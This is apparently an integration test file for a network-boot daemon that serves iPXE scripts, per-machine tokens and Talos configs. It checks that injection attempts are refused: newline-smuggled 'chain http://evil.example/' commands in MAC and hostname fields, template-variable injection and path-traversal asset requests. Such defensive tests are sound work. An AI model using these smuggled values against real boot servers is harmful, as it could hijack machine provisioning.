// The boot flow over real HTTP sockets: machines are simulated by binding the client side to different loopback
// addresses (127.0.0.2, 127.0.0.3 …), so the daemon sees different peer IPs exactly as it would on a LAN.
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parseAllDocuments } from 'yaml';
import { importRelease } from '../../src/assets/import.ts';
import { hashToken } from '../../src/configserve/tokens.ts';
import type { BootService } from '../../src/ipxe/index.ts';
import { inProcessHeph, REPO, tempDir } from '../helpers/heph.ts';

interface Res {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: Buffer;
  text: string;
}

function get(base: string, path: string, opts: { from?: string; method?: string; headers?: Record<string, string> } = {}): Promise<Res> {
  return new Promise((resolve, reject) => {
    const req = request(`${base}${path}`, { method: opts.method ?? 'GET', localAddress: opts.from ?? '127.0.0.2', headers: opts.headers ?? {} }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => {
        const body = Buffer.concat(chunks);
        resolve({ status: res.statusCode ?? 0, headers: res.headers, body, text: body.toString('utf8') });
      });
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

const MAC = '52:54:00:12:34:56';
const UUID = '8a0f1c2e-1111-4222-8333-944455556666';
const q = (over: Record<string, string> = {}): string =>
  '/ipxe?' + new URLSearchParams({ mac: MAC.replaceAll(':', '-'), uuid: UUID, serial: 'SER-1', hostname: 'node-1', arch: 'x86_64', platform: 'efi', manufacturer: 'QEMU', product: 'Standard PC', ...over }).toString();

describe('boot flow over HTTP', () => {
  let heph: Awaited<ReturnType<typeof inProcessHeph>>;
  let boot: BootService;
  const release = tempDir('heph-release-');
  const kernel = randomBytes(3 * 1024 * 1024 + 17);
  const initrd = randomBytes(1024 * 1024);

  before(async () => {
    writeFileSync(join(release.path, 'vmlinuz-amd64'), kernel);
    writeFileSync(join(release.path, 'initramfs-amd64.xz'), initrd);
    const sum = (b: Buffer): string => createHash('sha512').update(b).digest('hex');
    writeFileSync(join(release.path, 'sha512sum.txt'), `${sum(kernel)}  vmlinuz-amd64\n${sum(initrd)}  initramfs-amd64.xz\n${'0'.repeat(128)}  metal-amd64.iso\n`);
    heph = await inProcessHeph({ profiles: { dir: join(REPO, 'test/fixtures/profiles') } });
    boot = heph.daemon.services.find((s) => s.name === 'boot') as BootService;
    const imported = await importRelease({ db: heph.daemon.ctx.db, dataDir: heph.daemon.ctx.dataDir, source: release.path, version: 'v1.13.9' });
    assert.deepEqual(imported.map((i) => i.name), ['initramfs-amd64.xz', 'vmlinuz-amd64']);
  });
  after(async () => {
    await heph.stop();
    release.remove();
  });

  const machine = () => heph.daemon.ctx.machines.findByMac(MAC)!;
  const tokenFrom = (script: string): string => /talos\.config=http:\/\/[^/]+(\/config\/[A-Za-z0-9_-]+)/.exec(script)![1]!;
  const audits = (action: string) => heph.daemon.ctx.db.prepare<[string], { machine_id: string | null; ip: string; detail: string }>('SELECT machine_id, ip, detail FROM audit WHERE action = ? ORDER BY id').all(action);

  test('/boot.ipxe is a static chain script with Content-Length, and HEAD answers the same length', async () => {
    const g = await get(heph.url, '/boot.ipxe');
    assert.equal(g.status, 200);
    assert.ok(g.text.startsWith('#!ipxe\n'));
    assert.match(g.text, /\/ipxe\?mac=\$\{netX\/mac:hexhyp\}&uuid=\$\{uuid\}/);
    assert.equal(g.headers['content-length'], String(g.body.length));
    const h = await get(heph.url, '/boot.ipxe', { method: 'HEAD' });
    assert.equal(h.status, 200);
    assert.equal(h.headers['content-length'], String(g.body.length));
  });

  test('an unknown machine is created and held: no token, no config URL', async () => {
    const r = await get(heph.url, q());
    assert.equal(r.status, 200);
    assert.equal(r.headers['content-length'], String(r.body.length));
    assert.doesNotMatch(r.text, /talos\.config|kernel /);
    assert.match(r.text, /waits for an operator/);
    const m = machine();
    assert.deepEqual([m.acceptance, m.uuid, m.lastIp, m.arch, m.platform, m.serial], ['pending', UUID, '127.0.0.2', 'x86_64', 'efi', 'SER-1']);
    assert.equal((heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM boot_tokens').get() as { n: number }).n, 0);
  });

  test('injection attempts get 400 and no request bytes come back', async () => {
    for (const evil of [{ mac: '52-54-00-12-34-56\nchain http://evil.example/' }, { hostname: 'a\nchain http://evil.example/' }, { uuid: '${uuid}' }, { mac: '${net0/mac}' }]) {
      const r = await get(heph.url, q(evil));
      assert.equal(r.status, 400, JSON.stringify(evil));
      assert.doesNotMatch(r.text, /evil|\$\{/);
    }
    for (const raw of ['/ipxe?mac=52-54-00-12-34-56%0Achain%20http://evil.example/', '/ipxe?mac=52-54-00-12-34-56&evil%0Achain=1', '/ipxe?mac=52-54-00-12-34-56&mac=evil']) {
      const r = await get(heph.url, raw);
      assert.equal(r.status, 400, raw);
      assert.doesNotMatch(r.text, /evil|chain/);
    }
    // HEAD answers with the length GET would have, and creates nothing: a new MAC stays unknown.
    const counts = () => heph.daemon.ctx.db.prepare('SELECT (SELECT count(*) FROM machines) AS m, (SELECT count(*) FROM boot_tokens) AS t, (SELECT count(*) FROM audit) AS a').get();
    const before = counts();
    const fresh = q({ mac: '52-54-00-aa-bb-cc', uuid: '8a0f1c2e-1111-4222-8333-9444555566ff' });
    const head = await get(heph.url, fresh, { method: 'HEAD' });
    assert.equal(head.status, 200);
    assert.equal(head.body.length, 0);
    assert.deepEqual(counts(), before);
    assert.equal(heph.daemon.ctx.machines.findByMac('52:54:00:aa:bb:cc'), undefined);
    const heldHead = await get(heph.url, q(), { method: 'HEAD' });
    const held = await get(heph.url, q());
    assert.equal(heldHead.headers['content-length'], String(held.body.length));
    assert.equal((await get(heph.url, '/ipxe?mac=52-54-00-12-34-56%0Achain', { method: 'HEAD' })).status, 400);
  });

  test('an accepted machine gets an install script; its token works only from the script IP', async () => {
    heph.daemon.ctx.machines.update(machine().id, { acceptance: 'accepted' });
    const tokensBefore = heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM boot_tokens').get();
    const head = await get(heph.url, q(), { method: 'HEAD' });
    assert.deepEqual(heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM boot_tokens').get(), tokensBefore, 'HEAD mints no token');
    assert.notEqual(machine().state, 'booting', 'HEAD moves no state');
    const r = await get(heph.url, q());
    assert.equal(head.headers['content-length'], String(r.body.length), 'HEAD is as long as the install script GET returns');
    assert.equal(r.status, 200);
    assert.match(r.text, /^kernel --name vmlinuz http:\/\/\S+\/assets\/[0-9a-f]{64}\/vmlinuz-amd64 talos\.platform=metal .* initrd=initramfs\.xz talos\.config=http:\/\/\S+\/config\/[A-Za-z0-9_-]{43} && goto initrd \|\|$/m);
    assert.equal(machine().state, 'booting');
    const path = tokenFrom(r.text);
    const token = path.slice('/config/'.length);
    const stored = heph.daemon.ctx.db.prepare<[], { hash: string; ip: string; expires_at: number; created_at: number }>('SELECT hash, ip, expires_at, created_at FROM boot_tokens').all();
    assert.equal(stored.length, 1);
    assert.equal(stored[0]!.hash, hashToken(token));
    assert.equal(stored[0]!.ip, '127.0.0.2');
    assert.ok(stored[0]!.expires_at - stored[0]!.created_at >= 3 * 3600_000);

    const other = await get(heph.url, path, { from: '127.0.0.3' });
    assert.equal(other.status, 403);
    assert.doesNotMatch(other.text, /v1alpha1/);
    assert.equal(audits('config.refused').at(-1)!.ip, '127.0.0.3');
    assert.match(audits('config.refused').at(-1)!.detail, /wrong-ip/);

    const ok = await get(heph.url, path);
    assert.equal(ok.status, 200);
    assert.equal(ok.headers['content-length'], String(ok.body.length));
    assert.ok(ok.body.length > 0);
    const served = audits('config.served').at(-1)!;
    const detail = JSON.parse(served.detail) as { sha256: string; tokenRef: string };
    assert.equal(detail.sha256, createHash('sha256').update(ok.body).digest('hex'));
    assert.equal(detail.tokenRef, hashToken(token).slice(0, 12));
    assert.ok(!served.detail.includes(token));
    assert.equal(served.machine_id, machine().id);
    assert.equal(machine().state, 'config-served');
    const docs = (parseAllDocuments(ok.text) as unknown as { toJS(): Record<string, unknown> }[]).map((d) => d.toJS());
    const v1 = docs[0] as { version: string; machine: { install: { disk: string; wipe: boolean }; time: { servers: string[] }; sysctls: Record<string, string> } };
    assert.equal(v1.version, 'v1alpha1');
    assert.equal(v1.machine.install.disk, '/dev/vda', 'the profile install disk is applied');
    assert.equal(v1.machine.install.wipe, false);
    assert.deepEqual(v1.machine.time.servers, ['192.0.2.123'], 'the file patch is applied');
    assert.equal(v1.machine.sysctls['vm.nr_hugepages'], '0', 'the inline patch is applied');
    assert.ok(docs.some((d) => d.kind === 'EventSinkConfig'), 'the events documents are added');
    assert.ok(!ok.text.includes(token));
    assert.match(r.text, / talos\.events\.sink=\S+ talos\.logging\.kernel=tcp:\/\/\S+\/ /);
    // The settings ask for port 0: machines must be told the ports the sink and the kernel-log receiver really got.
    const listening = heph.daemon.services.find((s) => s.name === 'events')!.health().listening!;
    const [grpcPort, kmsgPort] = [listening.grpc!, listening.kmsgTcp!].map((a) => a.split(':').at(-1));
    assert.notEqual(grpcPort, '0');
    assert.match(r.text, new RegExp(` talos\\.events\\.sink=\\S+:${grpcPort} talos\\.logging\\.kernel=tcp://\\S+:${kmsgPort}/ `));
    assert.match(String(docs.find((d) => d.kind === 'EventSinkConfig')!.endpoint), new RegExp(`:${grpcPort}$`));

    const again = await get(heph.url, path);
    assert.equal(again.status, 200, 'Talos retries from the same IP');
    assert.equal(again.text, ok.text);
  });

  test('no token, a uuid or mac, or a forged token: 403 and audited', async () => {
    for (const p of [`/config?uuid=${UUID}`, `/config?mac=${MAC}`, '/config', `/config/${'A'.repeat(43)}`, '/config/short']) {
      const r = await get(heph.url, p);
      assert.equal(r.status, 403, p);
      assert.doesNotMatch(r.text, /v1alpha1/);
    }
    assert.ok(audits('config.refused').some((a) => a.detail.includes(UUID) && a.detail.includes('no token')));
  });

  test('a new script re-mints: the previous token stops working', async () => {
    const first = tokenFrom((await get(heph.url, q())).text);
    const second = tokenFrom((await get(heph.url, q())).text);
    assert.notEqual(first, second);
    assert.equal((await get(heph.url, first)).status, 403);
    assert.equal((await get(heph.url, second)).status, 200);
  });

  test('an expired token is refused', async () => {
    const m = machine();
    const { token } = boot.tokens.mint({ machineId: m.id, ip: '127.0.0.2', profile: 'worker', wipe: false, ttlMs: 3 * 3600_000, now: Date.now() - 3 * 3600_000 - 1000 });
    const r = await get(heph.url, `/config/${token}`);
    assert.equal(r.status, 403);
    assert.match(audits('config.refused').at(-1)!.detail, /expired/);
  });

  test('a machine that is no longer accepted gets no config, even with a live token', async () => {
    const path = tokenFrom((await get(heph.url, q())).text);
    heph.daemon.ctx.machines.update(machine().id, { acceptance: 'rejected' });
    assert.equal((await get(heph.url, path)).status, 403);
    const script = await get(heph.url, q());
    assert.equal(script.text, '#!ipxe\nexit\n', 'a rejected machine boots locally');
    heph.daemon.ctx.machines.update(machine().id, { acceptance: 'accepted' });
  });

  test('installed machines boot from disk; a reprovision installs once, with a wiping config', async () => {
    const ctx = heph.daemon.ctx;
    ctx.machines.setState(machine().id, 'installed', 'test');
    assert.equal((await get(heph.url, q())).text, '#!ipxe\nexit\n');
    ctx.machines.update(machine().id, { reprovision: true });
    const path = tokenFrom((await get(heph.url, q())).text);
    const cfg = await get(heph.url, path);
    assert.equal(cfg.status, 200);
    assert.equal(machine().reprovision, false, 'served once: the flag is spent');
    assert.equal((parseAllDocuments(cfg.text) as unknown as { toJS(): { machine: { install: { wipe: boolean } } } }[])[0]!.toJS().machine.install.wipe, true);
    assert.match(audits('config.served').at(-1)!.detail, /"wipe":true/);
  });

  test('a config that cannot be rendered is a 5xx, never an empty 200', async () => {
    const ctx = heph.daemon.ctx;
    ctx.machines.update(machine().id, { profile: 'broken' });
    ctx.machines.setState(machine().id, 'discovered', 'test');
    const path = tokenFrom((await get(heph.url, q())).text);
    const r = await get(heph.url, path);
    assert.ok(r.status >= 500, `status ${r.status}`);
    assert.doesNotMatch(r.text, /NotTalos/);
    ctx.machines.update(machine().id, { profile: null });
  });

  test('if the audit row cannot be committed, the config is not sent', async () => {
    const ctx = heph.daemon.ctx;
    const path = tokenFrom((await get(heph.url, q())).text);
    ctx.db.exec(`CREATE TRIGGER audit_full BEFORE INSERT ON audit BEGIN SELECT RAISE(ABORT, 'disk full'); END`);
    try {
      const r = await get(heph.url, path);
      assert.equal(r.status, 500);
      assert.doesNotMatch(r.text, /v1alpha1/);
    } finally {
      ctx.db.exec('DROP TRIGGER audit_full');
    }
    assert.equal((await get(heph.url, path)).status, 200);
  });

  test('a selector with autoAccept accepts matching machines by itself, and says so in the audit log', async () => {
    const ctx = heph.daemon.ctx;
    const { machine: m } = ctx.machines.resolve({ mac: '52:54:00:aa:bb:cc' });
    ctx.machines.update(m.id, { labels: { rack: 'auto' } });
    const r = await get(heph.url, q({ mac: '52-54-00-aa-bb-cc', uuid: '' }), { from: '127.0.0.4' });
    assert.match(r.text, /talos\.config=/);
    assert.equal(ctx.machines.get(m.id)!.acceptance, 'accepted');
    assert.ok(audits('machine.accept').some((a) => a.machine_id === m.id));
  });

  test('assets: GET, HEAD and Range with Content-Length; the timeline records the fetches', async () => {
    const script = (await get(heph.url, q())).text;
    const kpath = /kernel --name vmlinuz http:\/\/[^/]+(\S+)/.exec(script)![1]!;
    const g = await get(heph.url, kpath);
    assert.equal(g.status, 200);
    assert.equal(g.headers['content-length'], String(kernel.length));
    assert.ok(g.body.equals(kernel));
    const h = await get(heph.url, kpath, { method: 'HEAD' });
    assert.equal(h.headers['content-length'], String(kernel.length));
    assert.equal(h.body.length, 0);
    const part = await get(heph.url, kpath, { headers: { range: 'bytes=100-199' } });
    assert.equal(part.status, 206);
    assert.equal(part.headers['content-range'], `bytes 100-199/${kernel.length}`);
    assert.ok(part.body.equals(kernel.subarray(100, 200)));
    assert.equal((await get(heph.url, kpath, { headers: { range: `bytes=${kernel.length}-` } })).status, 416);
    for (const bad of ['/assets/../heph.db', '/assets/%2e%2e/heph.db', `/assets/${'0'.repeat(64)}/vmlinuz-amd64`, `/assets/${'0'.repeat(128)}/vmlinuz-amd64`, kpath.replace('vmlinuz-amd64', 'initramfs-amd64.xz')]) {
      const r = await get(heph.url, bad);
      assert.ok(r.status === 404 || r.status === 414, `${bad}: ${r.status}`);
      assert.ok(r.body.length < 1000);
    }
    heph.daemon.ctx.writer.flush();
    const kinds = heph.daemon.ctx.timeline.list(machine().id).map((e) => e.kind);
    for (const k of ['machine.discovered', 'ipxe.script', 'config.served', 'config.refused', 'asset.kernel']) assert.ok(kinds.includes(k), `${k} in ${kinds.join(',')}`);
  });

  test('a tampered asset gets 503 and an alert, never its bytes, and machines are held', async () => {
    const a = boot.assets.find('v1.13.9', 'amd64', 'vmlinuz-amd64')!;
    const file = join(heph.daemon.ctx.dataDir, a.path);
    const before = statSync(file);
    chmodSync(file, 0o600);
    const bytes = readFileSync(file);
    bytes[12345] = bytes[12345]! ^ 0xff;
    writeFileSync(file, bytes);
    // Same size, same mtime: only ctime (which no user call can set) betrays the write.
    utimesSync(file, before.atime, before.mtime);
    const r = await get(heph.url, `/assets/${a.id.slice(0, 64)}/${a.name}`);
    assert.equal(r.status, 503);
    assert.ok(r.body.length < 1000);
    const script = await get(heph.url, q());
    assert.doesNotMatch(script.text, /kernel /);
    assert.match(script.text, /failed SHA-512 verification/);
    const alerts = heph.daemon.ctx.db.prepare(`SELECT message FROM timeline WHERE kind = 'alert.asset'`).all();
    assert.ok(alerts.length >= 1);
  });
});

describe('asset import', () => {
  test('a file that does not match sha512sum.txt is not imported', async () => {
    const heph = await inProcessHeph();
    const rel = tempDir('heph-release-');
    try {
      const dir = join(rel.path, 'v1.13.9');
      mkdirSync(dir);
      writeFileSync(join(dir, 'vmlinuz-amd64'), 'kernel bytes');
      writeFileSync(join(dir, 'sha512sum.txt'), `${createHash('sha512').update('other bytes').digest('hex')}  vmlinuz-amd64\n`);
      await assert.rejects(importRelease({ db: heph.daemon.ctx.db, dataDir: heph.daemon.ctx.dataDir, source: dir }), /SHA-512 mismatch/);
      assert.equal((heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM assets').get() as { n: number }).n, 0);
    } finally {
      rel.remove();
      await heph.stop();
    }
  });
});

describe('policy for machines nobody accepted', () => {
  test('discover-only boots Talos into maintenance mode: kernel and initrd, never a config URL or a token', async () => {
    const heph = await inProcessHeph({ profiles: { dir: join(REPO, 'test/fixtures/profiles') }, boot: { unknownMachines: 'discover-only' } });
    const rel = tempDir('heph-release-');
    try {
      const k = randomBytes(4096);
      const i = randomBytes(4096);
      const sum = (b: Buffer): string => createHash('sha512').update(b).digest('hex');
      writeFileSync(join(rel.path, 'vmlinuz-amd64'), k);
      writeFileSync(join(rel.path, 'initramfs-amd64.xz'), i);
      writeFileSync(join(rel.path, 'sha512sum.txt'), `${sum(k)}  vmlinuz-amd64\n${sum(i)}  initramfs-amd64.xz\n`);
      await importRelease({ db: heph.daemon.ctx.db, dataDir: heph.daemon.ctx.dataDir, source: rel.path, version: 'v1.13.9' });
      // DHCP saw the NIC first; the script request merges into the same record.
      const { machine: seen } = heph.daemon.ctx.machines.resolve({ mac: MAC, vendorClass: 'PXEClient:Arch:00007:UNDI:003010' });
      const r = await get(heph.url, q({ platform: 'pcbios' }));
      assert.equal(r.status, 200);
      assert.match(r.text, /^kernel --name vmlinuz \S+ talos\.platform=metal /m);
      assert.match(r.text, /maintenance mode/);
      assert.doesNotMatch(r.text, /talos\.config|initrd=initramfs/);
      assert.equal((heph.daemon.ctx.db.prepare('SELECT count(*) AS n FROM boot_tokens').get() as { n: number }).n, 0);
      const m = heph.daemon.ctx.machines.findByMac(MAC)!;
      assert.equal(m.id, seen.id);
      assert.deepEqual([m.uuid, m.vendorClass, m.acceptance], [UUID, 'PXEClient:Arch:00007:UNDI:003010', 'pending']);
    } finally {
      rel.remove();
      await heph.stop();
    }
  });

  test('a profiles.dir that cannot be read stops startup with a fix', async () => {
    await assert.rejects(inProcessHeph({ profiles: { dir: '/nonexistent/heph-profiles' } }), (err: Error & { hint?: string }) => /profiles\.dir: \/nonexistent\/heph-profiles cannot be read: ENOENT/.test(err.message) && /profiles\.dir/.test(err.hint ?? ''));
  });

  test('ignore sends unknown machines on to their next boot device', async () => {
    const heph = await inProcessHeph({ boot: { unknownMachines: 'ignore', localBoot: 'sanboot' } });
    try {
      const r = await get(heph.url, q());
      assert.equal(r.text, '#!ipxe\nsanboot --no-describe --drive 0x80 || exit\n');
    } finally {
      await heph.stop();
    }
  });
});
